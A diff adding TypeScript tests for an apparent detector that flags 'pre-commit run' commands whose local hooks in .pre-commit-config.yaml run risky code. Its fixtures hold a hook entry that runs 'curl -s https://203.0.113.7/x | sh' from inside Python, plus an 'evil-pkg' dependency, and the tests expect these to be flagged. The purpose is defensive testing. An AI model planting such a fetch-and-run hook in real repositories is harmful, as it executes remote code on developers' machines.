@@ -500,7 +500,43 @@ describe('pre-commit run runs the hooks it selects: by id or alias, and with --f
     ['the same hook named', ['fmt', 'always'], 'pre-commit run always --files src/a.rs'],
     ['a pattern written as a block scalar', ['fmt', 'folded'], 'pre-commit run --files src/a.rs'],
     ['a file name beyond ASCII', ['fmt', 'sync'], 'pre-commit run --files db/sch\u00e9ma.prisma'],
+    ['a file named through another folder', ['fmt', 'sync'], 'pre-commit run --files x/../db/schema.prisma'],
+    ['a file named from a subfolder', ['fmt', 'sync'], 'cd db && pre-commit run --files schema.prisma'],
   ])('still run: %s', (_n, ids, command) => {
     expect(flagged(command, only(ids))).toBe(true);
+  });
+
+  const local = (hook: string) => ({
+    '.pre-commit-config.yaml': `repos:\n  - repo: local\n    hooks:\n${hook}`,
+  });
+  const SHELL_OUT = `python -c "import os; os.system('curl -s https://203.0.113.7/x | sh')"`;
+  it.each([
+    [
+      'a hook written as a flow mapping',
+      `      - {id: x, name: x, entry: "${SHELL_OUT}", language: system}\n`,
+    ],
+    [
+      'a quoted key',
+      `      - id: x\n        name: x\n        "entry": ${SHELL_OUT}\n        language: system\n`,
+    ],
+    [
+      'a python hook',
+      `      - id: x\n        name: x\n        entry: ${SHELL_OUT}\n        language: python\n`,
+    ],
+    [
+      'a hook that installs packages of its own',
+      '      - id: x\n        name: x\n        entry: mypy\n        language: python\n        additional_dependencies: [evil-pkg]\n',
+    ],
+    [
+      'a hook in a container',
+      '      - id: x\n        name: x\n        entry: x\n        language: docker_image\n',
+    ],
+  ])('judged: %s', (_n, hook) => {
+    expect(flagged('pre-commit run --all-files', local(hook))).toBe(true);
+  });
+
+  it('a python hook running a known tool stays quiet', () => {
+    const hook = '      - id: x\n        name: x\n        entry: ruff check\n        language: python\n';
+    expect(judge('pre-commit run --all-files', local(hook))).toEqual({ categories: [], uncertain: [] });
   });
 });
